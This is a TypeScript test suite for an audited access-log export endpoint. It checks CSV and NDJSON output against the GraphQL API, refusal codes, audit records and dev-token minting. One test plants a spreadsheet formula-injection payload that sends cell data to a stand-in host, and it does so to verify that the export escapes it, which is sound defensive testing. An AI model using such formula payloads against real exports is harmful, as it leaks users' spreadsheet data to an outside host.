/**
 * POST /console/export without a browser: the rows are the API's, in CSV and NDJSON, formula
 * cells escaped; refusals are the gateway's own; each page is an audited GraphQL request.
 */
import { parse } from 'csv-parse/sync';

import { makeConsoleTraffic, type Traffic } from './support/console-traffic.js';
import { startTestHub, type GraphQLResult, type TestHub } from './support/hub.js';

let hub: TestHub;
let base: string;
let traffic: Traffic;
let auditor: string;

beforeAll(async () => {
  hub = await startTestHub({ seed: true });
  base = hub.gatewayUrl.replace(/\/graphql$/, '');
  traffic = await makeConsoleTraffic(hub, 230);
  auditor = await hub.token({ roles: ['auditor'], sub: 'auditor-export' });
}, 120_000);
afterAll(() => hub?.stop());

function exportOf(fields: Record<string, string>, headers: Record<string, string> = {}) {
  return fetch(`${base}/console/export`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
    body: new URLSearchParams(fields),
  });
}

interface Page {
  pageInfo: { hasNextPage: boolean; endCursor: string | null };
  edges: { node: Node }[];
}

interface Node {
  id: string;
  principal: { sub: string | null };
  purposeReference: string | null;
}

async function apiIds(filter: Record<string, string>): Promise<Node[]> {
  const nodes: Node[] = [];
  let after: string | null = null;
  do {
    const result: GraphQLResult<{ accessLog: Page }> = await hub.query<{ accessLog: Page }>(
      `query ($filter: AccessLogFilter, $after: String) {
        accessLog(filter: $filter, first: 200, after: $after) {
          pageInfo { hasNextPage endCursor }
          edges { node { id principal { sub } purposeReference } } } }`,
      { token: auditor, purpose: 'AUDIT', variables: { filter, after } },
    );
    const log: Page | undefined = result.body.data?.accessLog;
    if (!log) {
      throw new Error(JSON.stringify(result.body));
    }
    nodes.push(...log.edges.map((edge) => edge.node));
    after = log.pageInfo.hasNextPage ? log.pageInfo.endCursor : null;
  } while (after);
  return nodes;
}

it('streams the filtered entries as CSV across pages: the same rows as the API', async () => {
  const filter = { officer: 'inv-5', purpose: 'PROSECUTION' };
  const response = await exportOf({
    token: auditor,
    format: 'csv',
    requestPurpose: 'AUDIT:REVIEW-2026-4',
    ...filter,
  });
  const text = await response.text();
  expect({ status: response.status, text: text.slice(0, 200) }).toMatchObject({ status: 200 });
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toMatch(
    /^attachment; filename="access-log-.*\.csv"$/,
  );
  const rows = parse(text, { columns: true }) as Record<string, string>[];
  const api = await apiIds(filter);
  expect(rows.length).toBe(230); // more than one page of 200
  expect(rows.map((row) => row.id)).toEqual(api.map((node) => node.id));
  expect(new Set(rows.map((row) => row.officer))).toEqual(new Set(['inv-5']));

  // Each page was an audited GraphQL request as the auditor, under one export id.
  const exportId = response.headers.get('x-export-id') ?? '';
  expect(exportId).toMatch(/^export:/);
  const pages = await apiIds({ requestId: exportId });
  expect(pages).toHaveLength(2);
  expect(new Set(pages.map((page) => page.principal.sub))).toEqual(new Set(['auditor-export']));
  expect(new Set(pages.map((page) => page.purposeReference))).toEqual(new Set(['REVIEW-2026-4']));
});

it('streams NDJSON: one entry per line, as the API gives it', async () => {
  const filter = { recordType: 'JuvenileRecord', recordId: traffic.recordId };
  const response = await exportOf({ token: auditor, format: 'ndjson', ...filter });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
  const lines = (await response.text()).trimEnd().split('\n');
  const entries = lines.map((line) => JSON.parse(line) as Node & { recordsAccessed: unknown[] });
  expect(entries.map((e) => e.id)).toEqual((await apiIds(filter)).map((node) => node.id));
  expect(new Set(entries.map((e) => e.principal.sub))).toEqual(new Set([traffic.officer]));
  expect(entries[0]?.recordsAccessed).toContainEqual({
    type: 'JuvenileRecord',
    id: traffic.recordId,
  });
});

it('escapes cells a spreadsheet would run as formulas', async () => {
  const formula = '=HYPERLINK("http://x.example/?"&A1,"open")';
  const officer = await hub.token({ roles: ['narcotics_investigator'], sub: 'inv-formula' });
  await hub.query('{ cases(first: 1) { totalCount } }', {
    token: officer,
    purpose: `PROSECUTION:${formula}`,
  });
  const response = await exportOf({ token: auditor, format: 'csv', officer: 'inv-formula' });
  const rows = parse(await response.text(), { columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(1);
  expect(rows[0]?.purposeReference).toBe(`'${formula}`);
  const [node] = await apiIds({ officer: 'inv-formula' });
  expect(node?.purposeReference).toBe(formula);
});

it("answers a refused export with the gateway's own refusal, and records it once", async () => {
  const analyst = await hub.token({ roles: ['bureau_analyst'], sub: 'analyst-export' });
  const refused = await exportOf({ token: analyst, format: 'csv' });
  expect(refused.status).toBe(403);
  const body = (await refused.json()) as { errors: { extensions: { code: string } }[] };
  expect(body.errors[0]?.extensions.code).toBe('UNAUTHORIZED_FIELD_OR_TYPE');
  const denied = await apiIds({ officer: 'analyst-export' });
  expect(denied).toHaveLength(1); // the page's GraphQL request; the export adds no second record

  const noToken = await exportOf({ format: 'ndjson' });
  expect(noToken.status).toBe(401);
  expect(((await noToken.json()) as typeof body).errors[0]?.extensions.code).toBe(
    'UNAUTHENTICATED',
  );

  // Refused before any page was asked: the trail records the export request itself, once.
  const badFormat = await exportOf(
    { token: auditor, format: 'xlsx' },
    { 'x-request-id': 'export-bad-format' },
  );
  expect(badFormat.status).toBe(400);
  const json = await exportOf(
    { token: auditor },
    { 'content-type': 'text/plain', 'x-request-id': 'export-as-text' },
  );
  expect(json.status).toBe(415);
  for (const id of ['export-bad-format', 'export-as-text']) {
    const records = await apiIds({ requestId: id });
    expect(records).toHaveLength(1);
  }
});

it('mints demo tokens in development mode only for the known roles, and records each', async () => {
  const minted = await fetch(`${base}/console/dev-token`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-request-id': 'dev-token-1' },
    body: JSON.stringify({ role: 'auditor' }),
  });
  expect(minted.status).toBe(200);
  const { token, agency } = (await minted.json()) as { token: string; agency: string };
  expect(agency).toBe('GS-AUD');
  const integrity = await hub.query('{ auditIntegrity { verified } }', { token, purpose: 'AUDIT' });
  expect(integrity.body.data).toEqual({ auditIntegrity: { verified: true } });
  expect(await apiIds({ requestId: 'dev-token-1' })).toHaveLength(1);

  const unknown = await fetch(`${base}/console/dev-token`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ role: 'superuser' }),
  });
  expect(unknown.status).toBe(400);
});
